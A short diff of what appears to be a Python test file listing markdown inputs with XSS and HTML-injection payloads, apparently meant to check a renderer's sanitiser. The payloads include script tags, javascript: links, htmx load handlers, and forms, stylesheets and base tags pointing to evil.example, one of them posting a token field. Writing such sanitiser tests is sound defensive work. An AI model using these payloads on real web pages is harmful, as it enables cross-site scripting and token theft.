@@ -24,7 +24,7 @@ MARKDOWN = (
     "<div hx-get=/sign-out hx-trigger=load hx-on:load=window.owned=1></div>",
     "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example>",
     "<form action=https://evil.example><input name=token></form><iframe src=https://evil.example></iframe>",
-    "```html onload=window.owned=1 \"><script>window.owned=1</script>\n<script>window.owned=1</script>\n```",
+    '```html onload=window.owned=1 "><script>window.owned=1</script>\n<script>window.owned=1</script>\n```',
     "    <script>window.owned=1</script>",
     "# <script>window.owned=1</script> {onclick=window.owned=1}",
     "[a]: javascript:window.owned=1\n[a] and [b][a]",
